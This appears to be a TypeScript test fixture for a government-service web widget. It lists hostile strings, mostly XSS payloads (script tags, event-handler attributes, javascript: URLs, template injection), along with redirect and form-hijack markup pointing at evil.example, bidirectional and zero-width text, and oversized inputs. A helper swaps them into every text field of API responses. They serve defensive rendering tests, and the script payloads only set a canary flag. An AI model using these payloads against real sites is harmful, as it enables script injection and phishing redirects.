/**
 * Strings an attacker, a broken back office or a careless copy-paste could put into any text field of the API:
 * markup that would run script if rendered as HTML, template syntax, link schemes, and text that breaks layouts.
 * Each one that runs sets `window.__pwned`.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<a href="javascript:window.__pwned=1">klik</a>',
  'javascript:window.__pwned=1',
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=window.__pwned=1>",
  '<body onload="window.__pwned=1">',
  '<details open ontoggle="window.__pwned=1">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<style>*{display:none!important}</style>',
  '<link rel=stylesheet href=data:,*{display:none}>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '${window.__pwned=1}',
  '{{constructor.constructor("window.__pwned=1")()}}',
  '<!-- <script>window.__pwned=1</script> -->',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '\u202Egnp.exe\u202C Dinas Kependudukan',
  'KTP\u200B\u200C\u200D\uFEFFel zero-width',
  'A'.repeat(10_000),
  'Penerbitan_' + 'x'.repeat(2000) + '_tanpa_spasi',
  '𝕂𝕋ℙ 🪪 ꦏꦠꦥ ' + 'ﷺ'.repeat(50),
  '\n\n\t  \r\n',
  '<form action="https://evil.example"><input name=nik></form>',
  '<object data="javascript:window.__pwned=1"></object>',
];

/** Keys whose values are structure (ids, dates, codes, enums), not text a person reads. */
const STRUCTURAL = new Set([
  'id',
  'kind',
  'agencyId',
  'serviceId',
  'code',
  'number',
  'date',
  'start',
  'end',
  'opensAt',
  'closesAt',
  'createdAt',
  'updatedAt',
  'startedAt',
  'completedAt',
  'submittedAt',
  'asOf',
  'deadline',
  'estimatedAt',
  'status',
  'confidence',
  'type',
  'weekdays',
  'open',
  'close',
  'breakStart',
  'breakEnd',
  'timezone',
  'nikMasked',
]);

/** Every text value of an API answer replaced by `text`; structure kept so the widget can still find its way. */
export function poison<T>(value: T, text: string, key = ''): T {
  if (typeof value === 'string') return (STRUCTURAL.has(key) ? value : text) as T;
  if (Array.isArray(value)) return value.map((v) => poison(v, text, key)) as T;
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, text, k)])) as T;
  }
  return value;
}
